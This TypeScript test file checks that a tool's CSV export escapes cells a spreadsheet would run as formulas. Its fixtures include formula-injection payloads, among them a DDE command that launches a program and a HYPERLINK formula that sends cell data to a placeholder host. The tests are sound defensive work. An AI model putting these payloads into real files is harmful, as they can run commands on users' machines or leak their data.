import { describe, expect, it } from "vitest";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { formulaSafeCell, formulaSafeCsv } from "../../src/report/csv.js";
import { failuresCommand } from "../../src/cli/failures-command.js";
import type { CliIo } from "../../src/cli/cli-io.js";

describe("formula-safe CSV cells", () => {
  it("prefixes a quote to strings a spreadsheet would run as a formula, and leaves the rest alone", () => {
    for (const risky of ["=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]) expect(formulaSafeCell(risky)).toBe(`'${risky}`);
    for (const plain of ["user-17", "a=b", "", " =1", "'quoted"]) expect(formulaSafeCell(plain)).toBe(plain);
    expect(formulaSafeCell(3)).toBe(3);
    expect(formulaSafeCell(-3)).toBe(-3);
  });

  it("writes a header and quotes commas, quotes and newlines", () => {
    const text = formulaSafeCsv(["id", "error"], [['=HYPERLINK("http://x/?"&A1)', 'a, "b"\nc']]);
    expect(parse(text, { columns: true })).toEqual([{ id: `'=HYPERLINK("http://x/?"&A1)`, error: 'a, "b"\nc' }]);
  });
});

describe("failures --format csv", () => {
  it("writes hostile ids and errors as text, not formulas", () => {
    const dir = mkdtempSync(join(tmpdir(), "rb-csv-"));
    try {
      const at = "2026-11-27T00:00:00.000Z";
      const records = [
        { t: "start", seq: 1, runId: "local", runAttempt: 1, mode: "run", at },
        {
          t: "fail",
          id: "=cmd|' /C calc'!A0",
          kind: "permanent",
          error: "@SUM(1+1)*cmd",
          attempts: 1,
          runs: 1,
          first: at,
          last: at,
          item: { id: "=cmd|' /C calc'!A0" },
        },
        { t: "fail", id: "-2+3", kind: "permanent", error: "+1 upstream", attempts: 1, runs: 1, first: at, last: at, item: { id: "-2+3" } },
      ];
      writeFileSync(join(dir, "journal-0.jsonl"), records.map((r) => JSON.stringify(r)).join("\n") + "\n");
      let out = "";
      const io = { stdout: { write: (s: string) => (out += s) }, stderr: { write: () => true }, env: {}, cwd: dir } as unknown as CliIo;
      expect(failuresCommand(dir, "csv", io)).toBe(0);
      const rows = parse(out, { columns: true }) as Array<Record<string, string>>;
      expect(rows.map((r) => [r.id, r.error]).sort()).toEqual([
        ["'-2+3", "'+1 upstream"],
        ["'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"],
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
